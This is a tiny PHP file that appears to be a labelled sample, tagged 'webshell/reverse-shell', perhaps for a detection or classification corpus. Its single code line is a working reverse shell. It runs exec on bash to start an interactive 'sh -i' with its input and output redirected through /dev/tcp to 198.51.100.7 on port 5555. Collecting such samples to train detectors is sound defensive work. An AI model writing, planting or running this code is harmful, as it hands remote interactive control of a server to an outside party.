<?php
// Family: webshell/reverse-shell
// Style: one line that starts an interactive shell wired to a TCP connection
// Trait: a command string with "sh -i" and redirections to /dev/tcp
$t = '198.51.100.7/5555';
exec("/bin/bash -c 'sh -i >& /dev/tcp/$t 0>&1'");
